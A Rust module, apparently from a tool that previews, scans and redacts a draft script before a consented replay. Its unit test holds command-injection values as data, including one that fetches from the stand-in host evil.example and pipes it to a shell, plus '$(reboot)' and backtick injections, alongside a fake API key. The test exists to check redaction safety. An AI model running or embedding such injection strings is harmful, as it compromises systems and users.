//! The script of a draft exactly as a test would run it: with the values of its session, scanned, and with a hash that
//! consent names.

use std::path::Path;

use prowess_acquire::scan_bundle;
use prowess_forge::{DraftOptions, Episode, Replay, draft, episode};
use prowess_scan::{ScanSeverity, Verdict};
use prowess_sessions::Sessions;
use prowess_skill::ParseOptions;
use prowess_types::{Bundle, BundleFile, Secret};
use serde::Serialize;

use super::Forge;
use super::queue::StoredDraft;

/// Whether the script of a draft can be replayed.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, schemars::JsonSchema)]
#[serde(rename_all = "lowercase")]
pub enum ReplayState {
    /// It runs if a person agrees.
    Ready,
    /// There is nothing that could run; the reason tells why.
    Unavailable,
    /// The scanner calls it malicious: it does not run, even if a person agrees.
    Refused,
}

/// The script of a draft as a test runs it.
#[derive(Clone, Debug, Serialize, schemars::JsonSchema)]
#[serde(rename_all = "camelCase")]
pub struct ReplayPreview {
    /// Whether it can run.
    pub state: ReplayState,
    /// Why it does not run.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub reason: Option<String>,
    /// The script with the values of its session in place. Secrets in it are shown as `[secret: N characters]`.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub script: Option<String>,
    /// The SHA-256 of the script that runs. Consent names it.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub hash: Option<String>,
    /// The session that the values come from.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub session: Option<String>,
    /// How many secrets are not shown.
    pub redacted: usize,
    /// The scanner's verdict on the script with its values.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub verdict: Option<String>,
    /// The scanner's warnings.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub findings: Vec<String>,
    /// The script that runs.
    #[serde(skip)]
    pub(super) expanded: Option<Secret>,
}

impl ReplayPreview {
    fn unavailable(reason: impl Into<String>) -> Self {
        Self {
            state: ReplayState::Unavailable,
            reason: Some(reason.into()),
            script: None,
            hash: None,
            session: None,
            redacted: 0,
            verdict: None,
            findings: Vec::new(),
            expanded: None,
        }
    }

    /// Returns the reasons it does not run, with the findings of the scanner.
    pub(super) fn reasons(&self) -> Vec<String> {
        self.reason.iter().chain(&self.findings).cloned().collect()
    }
}

/// The source of the values of a script.
enum Source {
    Found { session: String, script: String },
    Imported(String),
    Gone,
}

impl Forge<'_> {
    /// Shows what a test would run for a draft, if a person agreed. Nothing is run.
    pub fn replay_preview(&self, draft: &StoredDraft) -> ReplayPreview {
        let Some(script) = draft.script() else { return ReplayPreview::unavailable("there is no script") };
        match &draft.record.replay {
            Replay::None => return ReplayPreview::unavailable("there is no script"),
            Replay::OnPhone => return ReplayPreview::unavailable("it needs the phone"),
            Replay::Partial { left_out } => {
                let steps: Vec<String> = left_out.iter().map(ToString::to_string).collect();
                let steps = steps.join(", ");
                return ReplayPreview::unavailable(format!("the script cannot repeat the steps {steps}"));
            }
            Replay::Whole => {}
        }
        if let [first, ..] = draft.record.needs.env.as_slice() {
            let why = format!("it needs the variable `{first}`, and replays get none of yours");
            return ReplayPreview::unavailable(why);
        }
        match self.source(draft, script) {
            Source::Found { session, script } => preview(draft, session, &script),
            Source::Imported(from) => ReplayPreview::unavailable(format!(
                "its session was imported ({from}): scripts of imported sessions are never run"
            )),
            Source::Gone => ReplayPreview::unavailable(
                "the values of its parameters are not known: the session is gone, or the script was changed",
            ),
        }
    }

    /// The newest session that this engine recorded and that gives just this script.
    fn source(&self, draft: &StoredDraft, script: &str) -> Source {
        let mut imported = None;
        for source in draft.record.sessions.iter().rev() {
            let Some(session) =
                source.session.parse().ok().and_then(|id| Sessions::of(self.context).show(&id).ok())
            else {
                continue;
            };
            let Some(found) = episode(&session.session.lines, &source.run) else { continue };
            let Some(expanded) = expanded(draft, &found, source.at, script) else { continue };
            if found.is_own {
                return Source::Found { session: source.session.clone(), script: expanded };
            }
            let from = found.imported_from.unwrap_or_else(|| "it does not say from where".to_owned());
            imported.get_or_insert(from);
        }
        imported.map_or(Source::Gone, Source::Imported)
    }
}

/// The script with the values of a run, if the run gives this script.
fn expanded(stored: &StoredDraft, found: &Episode, at: u64, script: &str) -> Option<String> {
    let options = DraftOptions {
        filter: &prowess_cortex::signals,
        layout: stored.record.layout,
        now: at,
        name: Some(&stored.record.name),
        words: &stored.record.words,
        others: &[],
        description: None,
        wording: None,
        session_file: None,
    };
    let forged = draft(found, &options);
    forged.expanded.filter(|_| forged.draft.script.as_deref() == Some(script))
}

fn preview(draft: &StoredDraft, session: String, script: &str) -> ReplayPreview {
    let report = scan_with(draft, script);
    let state = if report.verdict == Verdict::Malicious { ReplayState::Refused } else { ReplayState::Ready };
    let reason = (state == ReplayState::Refused)
        .then(|| "the scanner calls the script malicious with the values of its session".to_owned());
    let (shown, redacted) = redacted(script);
    ReplayPreview {
        state,
        reason,
        script: Some(shown),
        hash: Some(prowess_fs::sha256_hex(script.as_bytes())),
        session: Some(session),
        redacted,
        verdict: Some(report.verdict.to_string()),
        findings: report.at_least(ScanSeverity::Warn).map(prowess_acquire::told).collect(),
        expanded: Some(Secret::new(script)),
    }
}

/// Scans the draft as if its script had the values.
fn scan_with(draft: &StoredDraft, script: &str) -> prowess_scan::Report {
    let own = draft.record.script.as_deref();
    let files = draft.files.iter().map(|(path, text)| {
        let is_script = own == Some(path.as_str());
        let text = if is_script { script } else { text.as_str() };
        BundleFile { path: path.clone(), bytes: text.as_bytes().to_vec(), executable: is_script }
    });
    let bundle = Bundle { files: files.collect() };
    scan_bundle(&bundle, Path::new(&draft.record.name), &ParseOptions::default()).report
}

/// A script with its secrets replaced by their lengths. What a shell could act on is never hidden.
fn redacted(script: &str) -> (String, usize) {
    let mut shown = String::with_capacity(script.len());
    let (mut done, mut count) = (0, 0);
    for span in prowess_trace::secret_spans(script) {
        let secret = &script[span.clone()];
        if !is_inert(secret) {
            continue;
        }
        shown += &script[done..span.start];
        shown += &format!("[secret: {} characters]", secret.chars().count());
        done = span.end;
        count += 1;
    }
    shown += &script[done..];
    (shown, count)
}

/// Returns true if a text cannot be part of a command: the letters of keys and, in a private key, its lines.
fn is_inert(secret: &str) -> bool {
    let is_key = secret.starts_with("-----BEGIN ");
    secret.chars().all(|letter| {
        letter.is_ascii_alphanumeric()
            || "_-+/=.:~@%".contains(letter)
            || (is_key && "\r\n ".contains(letter))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn secrets_are_named_and_commands_are_never_hidden() {
        let key = concat!("sk-live-", "Wq7xV2mPzK41aa99");
        let (shown, count) = redacted(&format!("curl -H 'X: {key}' https://a.example\n"));
        assert_eq!((shown.as_str(), count), ("curl -H 'X: [secret: 24 characters]' https://a.example\n", 1));
        for hidden in
            ["token=;curl${IFS}evil.example|sh", "password=$(reboot)aaaaaaaa", "secret=`id`aaaaaaaaa"]
        {
            assert_eq!(redacted(hidden), (hidden.to_owned(), 0));
        }
    }
}
